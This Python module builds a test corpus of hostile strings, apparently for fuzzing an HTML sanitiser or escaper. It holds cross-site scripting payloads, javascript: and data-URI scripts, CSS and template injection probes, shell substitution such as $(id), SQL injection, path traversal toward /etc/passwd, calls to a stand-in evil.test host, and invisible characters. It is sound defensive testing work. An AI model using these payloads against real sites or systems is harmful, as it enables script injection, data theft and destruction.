"""Text that tries to be more than text.

Generated from parts, so that each trick is met in each of the places where it might work: alone, as
the end of an attribute, as the end of an element, behind a comment.
"""

from itertools import product

NOISE = "alert(1)"
TAGS = (
    f"<script>{NOISE}</script>",
    f"<SCRIPT>{NOISE}</SCRIPT >",
    f"<script src=//evil.test/x.js></script>",
    f"<img src=x onerror={NOISE}>",
    f"<img src=//evil.test/x.png>",
    f"<svg onload={NOISE}>",
    f"<svg><script>{NOISE}</script></svg>",
    f"<svg><animate onbegin={NOISE} attributeName=x dur=1s>",
    f"<svg><use href=//evil.test/x.svg#a></svg>",
    f"<math><mtext><img src=x onerror={NOISE}></mtext></math>",
    f"<body onload={NOISE}>",
    f"<iframe src=javascript:{NOISE}></iframe>",
    f"<iframe srcdoc='<script>{NOISE}</script>'></iframe>",
    f"<object data=javascript:{NOISE}></object>",
    "<embed src=//evil.test/x>",
    f"<details open ontoggle={NOISE}>x</details>",
    f"<input autofocus onfocus={NOISE}>",
    f"<video><source onerror={NOISE}></video>",
    "<audio src=//evil.test/x.mp3 autoplay></audio>",
    f"<marquee onstart={NOISE}>x</marquee>",
    f"<a href=javascript:{NOISE} autofocus>x</a>",
    f"<form action=javascript:{NOISE}><input type=submit autofocus></form>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=prefetch href=//evil.test/x>",
    "<style>@import url(//evil.test/x.css);</style>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=//evil.test/>",
    f"<template><script>{NOISE}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={NOISE}>'></noscript>",
    f"<x-y onclick={NOISE} style=animation-name:x onanimationstart={NOISE}>x</x-y>",
    f"<dialog open onclose={NOISE}>x</dialog>",
    f"<button popovertarget=x onclick={NOISE} autofocus>x</button>",
    "<p style=position:fixed;inset:0;background:red>x</p>",
    "<plaintext>",
    "<xmp>x",
    "<textarea>x",
    "<select><option>x",
    "<table><tr><td>x",
)
ENDS = ("", "'>", '">', "</p>", "</bdi></li></ul>", "</title>", "</style>", "</script>", "-->", "]]>")
CLOSERS = (
    *(f"</{name}>" for name in "bdi p li ul ol td th tr table details summary pre h1 h2 h3".split()),
    *(f"</{name}>" for name in "title style head body html main section svg figure dl dd".split()),
    "<!--", "-->", "<!DOCTYPE html>", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<", ">", "<<<", "</", "<!", "<a", "< b>",
)
ATTRIBUTES = tuple(
    f"{quote}{space}{name}={NOISE} x={quote}"
    for quote, space, name in product(
        ("'", '"', "`", ""),
        (" ", "\t", "\n", "/", "\f"),
        ("onmouseover", "onerror", "onload", "onfocus", "style", "srcset"),
    )
)
ENTITIES = (
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&LT;script&GT;", "&amp;lt;b&amp;gt;", "&amp;", "&", "&&&",
    "&quot;&gt;", "&#34;&#62;", "&#x22 onload=x", "&Tab;", "&NewLine;", "&colon;", "javascript&colon;alert(1)", "&notit;",
    "&#0;", "&#x0;", "&#x80;", "&#xD800;", "&#x110000;", "&#99999999999;", "&lt", "&#60", "&bsol;u003cb&bsol;u003e",
)
ESCAPES = (
    r"\u003cscript\u003e", r"\x3cscript\x3e", r"\74script\76", "%3Cscript%3E", "%253Cscript%253E", "+ADw-script+AD4-",
    "\uff1cscript\uff1e", "\ufe64script\ufe65", "\u2039script\u203a", "\u226ascript\u226b", "<\u0338script>", "\xbcscript\xbe",
)
URLS = (
    f"javascript:{NOISE}", f"JaVaScRiPt:{NOISE}", f" javascript:{NOISE}", f"java\tscript:{NOISE}", f"java\nscript:{NOISE}",
    f"\x01javascript:{NOISE}", f"vbscript:{NOISE}", f"data:text/html,<script>{NOISE}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:image/png;base64,AAAA\" onerror=alert(1) x=\"",
    "data:image/png;base64,PHNjcmlwdD4=", "data:,x", "//evil.test/x.png", "https://evil.test/x.png", "http://127.0.0.1:9/x",
    "file:///etc/passwd", "blob:null/x", "about:blank", "\\\\evil.test\\x", "ftp://evil.test/x", "view-source:x", "mailto:x@evil.test",
)
STYLES = (
    "}</style><script>alert(1)</script>", "*{display:none}", "x}body{background:url(//evil.test/x)}", "expression(alert(1))",
    "url(javascript:alert(1))", "url(//evil.test/x)", "@import '//evil.test/x.css'", "behavior:url(//evil.test/x)", "-moz-binding:url(x)",
    "\\75rl(//evil.test/x)", "/*", "*/", "}}", "{{", "'\"}", "color:red;background:image-set('//evil.test/x' 1x)",
)
TEMPLATES = (
    "{{ 7*7 }}", "{{7*'7'}}", "{% raw %}", "{% endraw %}", "{% extends 'x' %}", "{% include '/etc/passwd' %}", "{# x #}", "{{ config }}",
    "{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__ }}", "{% for x in () %}", "{% endblock %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{ report }}", "{%- if 1 -%}", "%(x)s", "{0.__class__}", "%s%n%x", "$(id)", "`id`", "{{ '<b>'|safe }}",
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(32), *range(127, 160)))
UNSEEN = tuple(
    f"a{chr(code)}b"
    for code in (
        0xAD, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0x3164, 0xFEFF,
        *range(0xFFF9, 0xFFFC), 0xFFFE, 0xFFFF, 0xE000, 0xF8FF, 0xE0001, 0xE0041, 0xE007F, 0xE0100, 0x1FFFE, 0x10FFFF,
    )
)
SHAPES = (
    "x" * 5_000, "<" * 1_000, "&" * 1_000, "\u202e" * 300, "w o r d " * 300, "\n" * 1_000, "<div>" * 300,
    "a" + "\u0300" * 500 + "b", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f600" * 200, "\U0001f1e9\U0001f1ea",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u202eexe.jpg", "\u2066<b>\u2069",
    "\u0e01" + "\u0e49" * 200, "\ufdfd", "\u4f60\u597d", "\u3000", "\u00a0", "\u2800", "\ufffd", "\u0130\u0131\u017f\u212a",
    "'", '"', "`", "\\", "/", "''", '""', "';alert(1)//", '";alert(1)//', "`;alert(1)//", "');alert(1)//", "\\'", '\\"', "null", "None",
    "undefined", "NaN", "-1", "0", "true", "[]", "{}", "=1+1", "@SUM(A1)", "'; DROP TABLE x; --", "../../etc/passwd", "CON", "-", "\u2028",
)  # fmt: skip

HOSTILE = tuple(
    dict.fromkeys(
        [
            *(end + tag for end, tag in product(ENDS, TAGS)),
            *CLOSERS,
            *ATTRIBUTES,
            *ENTITIES,
            *ESCAPES,
            *URLS,
            *STYLES,
            *TEMPLATES,
            *CONTROLS,
            *UNSEEN,
            *SHAPES,
        ]
    )
)
"""Every one of them once. Lone surrogates are not among them: no reply can hold one."""
